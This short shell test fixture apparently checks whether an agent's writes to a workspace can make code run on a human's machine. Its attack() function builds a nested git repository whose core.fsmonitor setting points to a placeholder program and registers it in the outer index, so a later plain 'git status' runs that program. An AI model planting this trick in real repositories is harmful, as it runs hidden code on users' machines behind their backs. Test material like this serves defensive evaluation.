# A nested repository is registered in the index: plain `git status` runs its program.
# limit: the workspace and its index are the turn's to write; it is reported
# finding: gitlink-added
attack() {
    evil
    git init -q nested
    git -C nested commit -q --allow-empty -m x
    git -C nested config core.fsmonitor "$EVIL"
    git add nested 2>/dev/null
}
human() {
    git status
}
harmed() {
    executed
}
